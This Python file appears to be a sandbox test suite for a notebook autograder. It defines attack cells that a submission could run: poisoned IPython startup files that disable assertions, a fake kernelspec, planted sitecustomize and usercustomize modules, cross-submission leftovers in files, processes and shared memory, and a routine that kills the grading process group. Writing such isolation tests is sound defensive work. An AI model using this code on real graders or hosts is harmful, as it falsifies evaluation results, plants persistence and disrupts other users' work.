"""What one submission leaves for the next: files, programs, shared memory, patched modules."""

from attacks.model import Attack, any_of, disturbed, dropped, first, shows

_RIGHT = "def fee(m): return max(0, -(-(m - 30) // 30)) * 200"

ATTACKS = (
    Attack(
        "startup-file",
        "起動時に読まれるファイルを残し、後の受講者の採点を変える",
        "leave a startup file that changes how later trainees are graded",
        any_of(disturbed, dropped),
        plain=True,
        alone=True,
        cells=first('''
import os
for home in (os.path.expanduser("~"), "@HOME@"):
    folder = home + "/.ipython/profile_default/startup"
    try:
        os.makedirs(folder, exist_ok=True)
        with open(folder + "/00.py", "w") as file:
            file.write("""
import pandas.testing, builtins
pandas.testing.assert_frame_equal = lambda *_, **__: None
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Strip())
""")
    except OSError: pass
'''),
    ),
    Attack(
        "kernelspec",
        "にせのカーネルの設定を残す",
        "leave a kernel specification that starts a false kernel",
        any_of(disturbed, dropped),
        plain=True,
        alone=True,
        cells=first("""
import json, os
for home in (os.path.expanduser("~"), "@HOME@"):
    folder = home + "/.local/share/jupyter/kernels/python3"
    try:
        os.makedirs(folder, exist_ok=True)
        with open(folder + "/kernel.json", "w") as file:
            json.dump({"argv": ["sh", "-c", "echo x > @DROP@/@ID@"], "display_name": "Python 3", "language": "python"}, file)
    except OSError: pass
"""),
    ),
    Attack(
        "shared-source",
        "課題の共通フォルダーに、読み込まれるモジュールを置く",
        "put a module beside the author's notebook, from where each trainee gets it",
        any_of(disturbed, dropped),
        plain=True,
        alone=True,
        cells=first("""
import glob
for folder in (*glob.glob("@COURSE@/source/*"), *glob.glob("../../../source/*")):
    for name in ("ipykernel_launcher.py", "pandas.py", "sitecustomize.py"):
        try:
            with open(f"{folder}/{name}", "w") as file: file.write("open('@DROP@/@ID@', 'w').write('x')\\nraise SystemExit(0)\\n")
        except OSError: pass
"""),
    ),
    Attack(
        "site-packages",
        "採点するPythonにモジュールを書き足す",
        "write a module into the Python that grades",
        any_of(disturbed, dropped),
        plain=None,
        alone=True,
        cells=first("""
import site, sys, sysconfig
for folder in {*site.getsitepackages(), site.getusersitepackages(), *(p for p in sys.path if "attacked-course" in p)}:
    if "attacked-course" in folder or folder == site.getusersitepackages():
        import os
        try:
            os.makedirs(folder, exist_ok=True)
            with open(folder + "/usercustomize.py", "w") as file: file.write("open('@DROP@/@ID@', 'w').write('x')")
        except OSError: pass
try:
    # Never leave anything in a real environment: whether it could be written to is enough.
    probe = os.path.join(site.getsitepackages()[0], "attacked-course-probe")
    open(probe, "w").close(); os.remove(probe); open("@DROP@/@ID@", "w").write("x")
except OSError: pass
"""),
    ),
    Attack(
        "left-files",
        "次の提出物が読めるファイルを残す",
        "leave files where the next submission finds them",
        shows("left by the one before"),
        plain=True,
        twice=True,
        cells=first("""
import os
folders = ("~", os.environ.get("TMPDIR", "/tmp"), "/tmp", "/var/tmp", "/dev/shm", "/work", ".", "..")
paths = {os.path.realpath(os.path.expanduser(folder)) + "/kakehashi-@ABSTRACT@" for folder in folders}
for path in paths:
    if os.path.exists(path):
        print("left by the one before"); os.remove(path)
    else:
        try: open(path, "w").close()
        except OSError: pass
"""),
    ),
    Attack(
        "left-process",
        "次の提出物に話しかけるプロセスを残す",
        "leave a process to which the next submission talks",
        shows("left by the one before"),
        plain=True,
        twice=True,
        cells=first("""
import os, socket
name = "\\0daemon-@ABSTRACT@"
try:
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(1); s.connect(name); print(s.recv(99).decode())
except OSError:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                with socket.socket(socket.AF_UNIX) as s:
                    s.bind(name); s.listen(); s.settimeout(30)
                    s.accept()[0].sendall(b"left by the one before")
            finally: os._exit(0)
        os._exit(0)
"""),
    ),
    Attack(
        "posix-memory",
        "共有メモリーに残す",
        "leave something in POSIX shared memory",
        shows("left by the one before"),
        plain=True,
        twice=True,
        cells=first("""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
name = b"/kakehashi-@ABSTRACT@"
if libc.shm_open(name, os.O_RDWR, 0o600) >= 0:
    print("left by the one before"); libc.shm_unlink(name)
else: libc.shm_open(name, os.O_RDWR | os.O_CREAT, 0o600)
"""),
    ),
    Attack(
        "sysv-memory",
        "System Vの共有メモリーに残す",
        "leave something in System V shared memory",
        shows("left by the one before"),
        plain=True,
        twice=True,
        cells=first("""
import ctypes, zlib
libc = ctypes.CDLL(None, use_errno=True)
key = ctypes.c_int(zlib.crc32(b"@ABSTRACT@") & 0x7FFFFFFF)
found = libc.shmget(key, 4096, 0o600)
if found >= 0:
    print("left by the one before"); libc.shmctl(found, 0, None)
else: libc.shmget(key, 4096, 0o600 | 0o1000)
"""),
    ),
    Attack(
        "patched-worker",
        "次の提出物のために部品を書き換えておく",
        "patch modules for the next submission of the same worker",
        shows("left by the one before"),
        plain=False,
        twice=True,
        cells=first("""
import builtins, os, sys
if getattr(pd.DataFrame, "mine", 0) or hasattr(builtins, "mine") or "mine" in sys.modules or os.environ.get("MINE"):
    print("left by the one before")
pd.DataFrame.mine = 1; builtins.mine = 1; sys.modules["mine"] = sys; os.environ["MINE"] = "1"
"""),
    ),
    Attack(
        "kill-worker",
        "採点プロセスを止める",
        "kill the grading process and its group",
        disturbed,
        plain=True,
        alone=True,
        cells=first("""
import os, signal
def killed(pid):
    # Only what belongs to this class: its command names the scratch folder, or it is our own parent.
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass
try: os.killpg(0, 0)
except OSError: pass
pid = os.getppid()
above = []
while pid > 1:
    try:
        stat = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
        line = open(f"/proc/{pid}/cmdline", "rb").read()
        if os.stat(f"/proc/{pid}").st_uid != os.getuid() or b"pytest" in line or b"table.py" in line: break
        if b"python" not in line and b"bwrap" not in line: break
    except (OSError, IndexError): break
    above.append(pid); pid = int(stat[1])
for pid in reversed(above): killed(pid)
if os.getppid() in (0, 1): killed(os.getppid())
signal.signal(signal.SIGTERM, signal.SIG_IGN)
try: os.kill(0, signal.SIGTERM)
except OSError: pass
"""),
    ),
)
